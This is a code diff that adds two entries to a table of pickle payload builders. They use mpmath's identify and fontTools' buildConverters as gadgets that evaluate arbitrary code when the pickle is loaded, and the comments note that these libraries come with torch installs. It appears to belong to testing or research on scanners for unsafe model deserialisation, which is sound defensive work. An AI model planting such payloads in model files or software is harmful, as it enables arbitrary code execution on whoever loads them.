@@ -99,6 +99,22 @@ STRING_EVALUATORS = {
         + b"tR."
     ),
     "warnings._getcategory": _global("warnings", "_getcategory") + b"(" + _text("evil_module.Warning") + b"tR.",
+    # mpmath (a SymPy dependency, so in every torch install): identify(0.5, [<code>]) evals each constant
+    "mpmath.identify": _global("mpmath", "identify") + b"(F0.5\n(l" + _text(CODE) + b"atR.",
+    # fontTools (a matplotlib dependency): buildConverters([spec], {}) evals spec.type when it holds "("
+    "buildConverters": (
+        _global("fontTools.ttLib.tables.otTables", "Lookup")
+        + b"0"
+        + _global("fontTools.ttLib.tables.otConverters", "buildConverters")
+        + b"((l"
+        + _global("argparse", "Namespace")
+        + b")R}("
+        + b"".join(_text(t) for t in ("name", "x", "type", CODE))
+        + b"".join(_text(t) + b"N" for t in ("repeat", "aux", "condition"))
+        + _text("description")
+        + _text("")
+        + b"uba}tR."
+    ),
 }
 
 
